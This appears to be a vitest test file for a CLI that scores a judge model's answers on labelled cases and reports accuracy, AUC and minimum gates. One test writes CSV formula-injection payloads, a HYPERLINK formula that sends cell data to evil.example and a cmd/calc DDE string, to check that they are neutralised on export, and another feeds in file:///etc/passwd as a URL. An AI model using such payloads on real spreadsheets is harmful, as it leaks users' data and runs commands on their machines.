import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../core/judge/cases/csv';
import { EXIT, judgeRun } from './judge-run';
import { sampleCaseFiles } from './sample-cases.test-helper';

const { root, dir, set: SET, cases: CASES } = sampleCaseFiles('gatehouse-cli-');

const sample = JSON.parse(readFileSync(SET, 'utf8')) as { set: unknown };
/** The sample set as the app exports it now (version 2), with the given tuning. */
function tunedSet(file: string, tuning: unknown): string {
  const path = join(dir, file);
  writeFileSync(
    path,
    JSON.stringify({ schema: 'gatehouse.question-set', version: 2, set: sample.set, tuning }),
  );
  return path;
}
const STRICT = tunedSet('strict.question-set.json', { thresholds: {}, minimums: { accuracy: 0.999 } });
/** Above every noul value the Sandbox gives (it stays within 0.02..0.98): every verdict is false. */
const HIGH = tunedSet('high.question-set.json', { thresholds: { offers_refund: 0.99 }, minimums: {} });
const labelsOf = (question: string) =>
  readFileSync(CASES, 'utf8')
    .trim()
    .split('\n')
    .map((l) => (JSON.parse(l) as Record<string, unknown>)[question]);
/** The accuracy column of a question's row in the printed table. */
function accuracyIn(table: string, question: string): number {
  const m = new RegExp(`^${question}\\s+noul\\s+\\d+/\\d+\\s+(\\S+)\\s+(\\d\\.\\d{3})`, 'm').exec(table);
  if (!m) throw new Error(`no row for ${question} in:\n${table}`);
  return Number(m[2]);
}

function io() {
  const out: string[] = [];
  const err: string[] = [];
  return { out, err, io: { out: (l: string) => out.push(l), err: (l: string) => err.push(l), env: {} } };
}

describe('gatehouse judge run', () => {
  it('judges the cases on the Sandbox, prints the metrics, writes the results and passes without minimums', async () => {
    const t = io();
    const results = join(dir, 'results.jsonl');
    const code = await judgeRun(
      ['--set', SET, '--cases', CASES, '--sandbox', '--concurrency', '8', '--out', results],
      t.io,
    );
    expect(t.err.join('\n')).not.toMatch(/below the minimum/);
    expect(code).toBe(EXIT.ok);
    const table = t.out.join('\n');
    expect(table).toMatch(/^question\s+type\s+cases used\s+threshold\s+accuracy \[95% CI\]\s+AUC \[95% CI\]/);
    // Each metric with its interval: accuracy by Wilson, the noul AUC by the seeded bootstrap.
    expect(table).toMatch(
      /^offers_refund\s+noul\s+40\/40\s+0\.5\s+(\d\.\d{3}) \[\d\.\d{3}, \d\.\d{3}\]\s+\d\.\d{3} \[\d\.\d{3}, \d\.\d{3}\]$/m,
    );
    // The sample file is version 1: no saved tuning, so 0.5 and no minimums.
    expect(table).toMatch(/^offers_refund\s+noul\s+40\/40\s+0\.5\s/m);
    expect(table).toMatch(/^minimums: none \(the set file saves none/m);
    // Every question of the sample set has a row, each with all 40 cases used.
    const set = JSON.parse(readFileSync(SET, 'utf8')) as { set: { questions: { name: string }[] } };
    for (const q of set.set.questions)
      expect(table).toMatch(new RegExp(`${q.name}\\s+\\w+\\s+40/40\\s+\\S+\\s+\\d\\.\\d{3}`));
    expect(table).toMatch(/answered by judge-1\.13\.0/);
    const lines = readFileSync(results, 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { status: string; model: string });
    expect(lines).toHaveLength(40);
    expect(lines.every((l) => l.status === 'done' && l.model === 'judge-1.13.0')).toBe(true);
    expect(t.err.some((l) => /40\/40 judged/.test(l))).toBe(true);
  });

  it('exits 1 and says which metric fell below a minimum', async () => {
    const t = io();
    const code = await judgeRun(
      ['--set', SET, '--cases', CASES, '--sandbox', '--min-accuracy', '0.999'],
      t.io,
    );
    expect(code).toBe(EXIT.belowMinimum);
    expect(t.err.join('\n')).toMatch(
      /below the minimum: \S+: accuracy 0\.\d{3} \[0\.\d{3}, [01]\.\d{3}\] is below 0\.999 \(from --min-accuracy\): fail/,
    );
  });

  it('prints its usage with --help and exits 0', async () => {
    const t = io();
    expect(await judgeRun(['--help'], t.io)).toBe(EXIT.ok);
    expect(t.out.join('\n')).toMatch(/^Usage: gatehouse judge run .*--gate point\|lower-bound/s);
    expect(t.err).toEqual([]);
  });

  it('with --gate lower-bound, exits 1 on a metric whose estimate passes but whose lower bound does not', async () => {
    const first = io();
    expect(await judgeRun(['--set', SET, '--cases', CASES, '--sandbox'], first.io)).toBe(EXIT.ok);
    // The lowest accuracy printed, rounded down: every estimate reaches it; that question's
    // Wilson lower bound on 40 cases lies below it.
    const accuracies = [...first.out.join('\n').matchAll(/^\S+\s+\w+\s+40\/40\s+\S+\s+(\d\.\d{3}) \[/gm)];
    const lowest = Math.min(...accuracies.map((m) => Number(m[1])));
    expect(lowest).toBeGreaterThan(0);
    const minimum = String(Math.floor(lowest * 100) / 100);
    const args = ['--set', SET, '--cases', CASES, '--sandbox', '--min-accuracy', minimum];
    const point = io();
    expect(await judgeRun(args, point.io)).toBe(EXIT.ok);
    expect(point.out.join('\n')).toMatch(/weak pass/);
    const strict = io();
    const metricsOut = join(dir, 'metrics.json');
    expect(await judgeRun([...args, '--gate', 'lower-bound', '--metrics-out', metricsOut], strict.io)).toBe(
      EXIT.belowMinimum,
    );
    // The metrics file carries each interval whole, and the verdicts.
    const written = JSON.parse(readFileSync(metricsOut, 'utf8')) as {
      gate: string;
      questions: {
        type: string;
        accuracyInterval: { method: string; lower: number };
        aucInterval?: { seed: number; resamples: number };
      }[];
      verdicts: { verdict: string; failed: boolean }[];
    };
    expect(written.gate).toBe('lower-bound');
    expect(written.questions[0].accuracyInterval).toMatchObject({ method: 'wilson', n: 40 });
    expect(written.questions.find((q) => q.type === 'noul')?.aucInterval).toMatchObject({
      seed: 1,
      resamples: 1000,
    });
    expect(written.verdicts.some((v) => v.verdict === 'weak pass' && v.failed)).toBe(true);
    expect(strict.out.join('\n')).toMatch(/^gate: lower-bound$/m);
    expect(strict.err.join('\n')).toMatch(
      /below the minimum: \S+: accuracy .* its lower bound 0\.\d{3} does not: weak pass/,
    );
    const bad = io();
    expect(await judgeRun([...args, '--gate', 'upper'], bad.io)).toBe(EXIT.failed);
    expect(bad.err.join('\n')).toMatch(/--gate must be one of point, lower-bound/);
  });

  it('gates on the minimum the set file saved, without any flag, and says so', async () => {
    const t = io();
    expect(await judgeRun(['--set', STRICT, '--cases', CASES, '--sandbox'], t.io)).toBe(EXIT.belowMinimum);
    expect(t.out.join('\n')).toMatch(/^minimums: accuracy 0\.999 \(from the set file\)$/m);
    expect(t.err.join('\n')).toMatch(/accuracy 0\.\d{3} \[[^\]]+\] is below 0\.999 \(from the set file\)/);
  });

  it('lets a flag override the set file’s minimum', async () => {
    const t = io();
    const code = await judgeRun(
      ['--set', STRICT, '--cases', CASES, '--sandbox', '--min-accuracy', '0'],
      t.io,
    );
    expect(t.err.join('\n')).not.toMatch(/below the minimum/);
    expect(code).toBe(EXIT.ok);
    expect(t.out.join('\n')).toMatch(/^minimums: accuracy 0 \(from --min-accuracy\)$/m);
  });

  it('reads noul answers at the threshold the set file saved', async () => {
    const plain = io();
    expect(await judgeRun(['--set', SET, '--cases', CASES, '--sandbox'], plain.io)).toBe(EXIT.ok);
    const high = io();
    const out = join(dir, 'high.csv');
    expect(await judgeRun(['--set', HIGH, '--cases', CASES, '--sandbox', '--out', out], high.io)).toBe(
      EXIT.ok,
    );
    const table = high.out.join('\n');
    expect(table).toMatch(/^offers_refund\s+noul\s+40\/40\s+0\.99\s/m);
    // At 0.99 every verdict is false, so the accuracy is the share of cases labelled false …
    const labels = labelsOf('offers_refund');
    const negatives = labels.filter((l) => l === false).length / labels.length;
    expect(accuracyIn(table, 'offers_refund')).toBeCloseTo(negatives, 3);
    // … which is not what 0.5 gives on these cases; the other noul question is untouched.
    expect(accuracyIn(table, 'offers_refund')).not.toBeCloseTo(
      accuracyIn(plain.out.join('\n'), 'offers_refund'),
      3,
    );
    expect(accuracyIn(table, 'asks_for_details')).toBe(accuracyIn(plain.out.join('\n'), 'asks_for_details'));
    // --out as CSV: the same verdicts, with the threshold beside them.
    const [header, ...records] = parseCsv(readFileSync(out, 'utf8')).map((r) => r.fields);
    expect(records).toHaveLength(40);
    const cell = (r: string[], column: string) => r[header.indexOf(column)];
    for (const r of records) {
      expect(cell(r, 'offers_refund.threshold')).toBe('0.99');
      expect(cell(r, 'offers_refund.verdict')).toBe('false');
      expect(Number(cell(r, 'offers_refund.value'))).toBeLessThan(0.99);
      expect(cell(r, 'asks_for_details.threshold')).toBe('0.5');
      expect(cell(r, 'asks_for_details.verdict')).toBe(
        String(Number(cell(r, 'asks_for_details.value')) >= 0.5),
      );
    }
  });

  it('writes a .csv --out with formula cells neutralised, or as they are with --csv-raw', async () => {
    const formulas = join(dir, 'formulas.jsonl');
    const states = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(1+9)*cmd|' /C calc'!A0", '-2+3'];
    writeFileSync(
      formulas,
      states.map((state) => JSON.stringify({ state, offers_refund: false })).join('\n'),
    );
    const stateColumn = async (extra: string[]) => {
      const out = join(dir, `formulas-${extra.length}.csv`);
      const t = io();
      const code = await judgeRun(
        ['--set', SET, '--cases', formulas, '--sandbox', '--out', out, ...extra],
        t.io,
      );
      expect(code, t.err.join('\n')).toBe(EXIT.ok);
      const [header, ...records] = parseCsv(readFileSync(out, 'utf8')).map((r) => r.fields);
      return records.map((r) => r[header.indexOf('state')]);
    };
    expect(await stateColumn([])).toEqual(states.map((s) => `'${s}`));
    expect(await stateColumn(['--csv-raw'])).toEqual(states);
  });

  it('exits 2 with the rule when the command cannot run', async () => {
    const missing = io();
    expect(await judgeRun(['--cases', CASES, '--sandbox'], missing.io)).toBe(EXIT.failed);
    expect(missing.err[0]).toBe('--set is required: the question set file the app exports');
    const noKey = io();
    expect(
      await judgeRun(['--set', SET, '--cases', CASES, '--base-url', 'https://gw.example'], noKey.io),
    ).toBe(EXIT.failed);
    expect(noKey.err.join('\n')).toMatch(/GATEWAY_API_KEY holds no key/);
    const badModel = io();
    expect(
      await judgeRun(['--set', SET, '--cases', CASES, '--sandbox', '--model', 'judge-9'], badModel.io),
    ).toBe(EXIT.failed);
    expect(badModel.err[0]).toMatch(/--model must be one of judge-1\.13\.0, judge-latest, judge-preview/);
    // A base URL of another scheme: one sentence naming the flag and the rule, not zod's JSON.
    const fileUrl = io();
    expect(
      await judgeRun(['--set', SET, '--cases', CASES, '--base-url', 'file:///etc/passwd'], {
        ...fileUrl.io,
        env: { GATEWAY_API_KEY: 'sk-test' },
      }),
    ).toBe(EXIT.failed);
    expect(fileUrl.err).toEqual([
      '--base-url must be an http:// or https:// address (file: is not one), e.g. https://gateway.example.com',
    ]);
    // A folder as --set: the flag named, not a bare EISDIR.
    const folder = io();
    expect(await judgeRun(['--set', dir, '--cases', CASES, '--sandbox'], folder.io)).toBe(EXIT.failed);
    expect(folder.err).toEqual([`--set must name a file: ${dir} is a folder`]);
    const missingSet = io();
    const nowhere = join(dir, 'no-such.question-set.json');
    expect(await judgeRun(['--set', nowhere, '--cases', CASES, '--sandbox'], missingSet.io)).toBe(
      EXIT.failed,
    );
    expect(missingSet.err).toEqual([`--set: ${nowhere} does not exist`]);
  });

  it('runs as `gatehouse judge run` from the command line, with its exit codes', () => {
    const run = (extra: string[]) =>
      spawnSync(
        process.execPath,
        [
          join(root, 'src-main/cli/gatehouse.mjs'),
          'judge',
          'run',
          '--set',
          SET,
          '--cases',
          CASES,
          '--sandbox',
          ...extra,
        ],
        {
          encoding: 'utf8',
          timeout: 60_000,
        },
      );
    const ok = run([]);
    expect(ok.status).toBe(0);
    expect(ok.stdout).toMatch(/cases used/);
    const below = run(['--min-auc', '0.9999']);
    expect(below.status).toBe(1);
    expect(below.stderr).toMatch(/AUC 0\.\d{3} \[[^\]]+\] is below 0\.9999/);
    const bad = run(['--concurrency', '99']);
    expect(bad.status).toBe(2);
    expect(bad.stderr).toMatch(/--concurrency must be a number from 1 to 16/);
  }, 120_000);
});

describe('gatehouse judge run: its files and paths', () => {
  /**
   * A loopback gateway that counts what reaches it and refuses the key: a command that checks
   * its paths first must send it nothing.
   */
  async function countingGateway() {
    let requests = 0;
    const server = createServer((_req, res) => {
      requests++;
      res.writeHead(401, { 'Content-Type': 'application/json' });
      res.end(JSON.stringify({ error: { message: 'bad key' } }));
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
    const { port } = server.address() as AddressInfo;
    return {
      url: `http://127.0.0.1:${port}`,
      requests: () => requests,
      close: () => new Promise<void>((r) => server.close(() => r())),
    };
  }
  const withKey = (t: ReturnType<typeof io>) => ({ ...t.io, env: { GATEWAY_API_KEY: 'sk-test-0123456789' } });

  it('refuses --out in a folder that does not exist before sending any request', async () => {
    const gateway = await countingGateway();
    try {
      const t = io();
      const out = join(dir, 'no-such-folder', 'results.jsonl');
      const code = await judgeRun(
        ['--set', SET, '--cases', CASES, '--base-url', gateway.url, '--out', out],
        withKey(t),
      );
      expect(code).toBe(EXIT.failed);
      expect(t.err).toEqual([
        `--out: the folder ${join(dir, 'no-such-folder')} does not exist (create it first)`,
      ]);
      expect(gateway.requests()).toBe(0);
    } finally {
      await gateway.close();
    }
  });

  it('names --cases when it is a folder, and --set when it never ends', async () => {
    const t = io();
    expect(await judgeRun(['--set', SET, '--cases', dir, '--sandbox'], t.io)).toBe(EXIT.failed);
    expect(t.err).toEqual([`--cases must name a file: ${dir} is a folder`]);
    if (process.platform !== 'linux') return;
    const zero = io();
    expect(await judgeRun(['--set', '/dev/zero', '--cases', CASES, '--sandbox'], zero.io)).toBe(EXIT.failed);
    expect(zero.err).toEqual(['--set: must be at most 5 MB (a question set file is never larger)']);
  });

  it.runIf(process.platform === 'linux')(
    'reads endless --cases (/dev/zero) only to 50 MB, says so in one line and sends nothing',
    async () => {
      const gateway = await countingGateway();
      try {
        // A process of its own: its memory is its own to measure, and an endless read cannot
        // take this test's process down with it.
        const child = spawn(
          process.execPath,
          [
            join(root, 'src-main/cli/gatehouse.mjs'),
            ...['judge', 'run', '--set', SET, '--cases', '/dev/zero', '--base-url', gateway.url],
          ],
          { env: { ...process.env, GATEWAY_API_KEY: 'sk-test-0123456789' } },
        );
        let stderr = '';
        child.stderr.on('data', (d: Buffer) => (stderr += String(d)));
        let peakRss = 0;
        const probe = setInterval(() => {
          // VmRSS of the child, in kB, as Linux reports it.
          const status = readFileSync(`/proc/${child.pid}/status`, 'utf8');
          const kb = Number(/VmRSS:\s+(\d+)/.exec(status)?.[1] ?? 0);
          peakRss = Math.max(peakRss, kb * 1024);
        }, 20);
        const killer = setTimeout(() => child.kill('SIGKILL'), 60_000);
        const [code] = (await once(child, 'exit')) as [number | null];
        clearInterval(probe);
        clearTimeout(killer);
        expect(stderr).toBe('--cases: the file is larger than 50 MB (stopped reading at byte 52,428,801)\n');
        expect(code).toBe(EXIT.failed);
        // The process as a whole (tsx, the app's modules, one 8 MB row at most) stays small.
        expect(peakRss).toBeLessThan(400 * 1024 * 1024);
        expect(gateway.requests()).toBe(0);
      } finally {
        await gateway.close();
      }
    },
    90_000,
  );
});
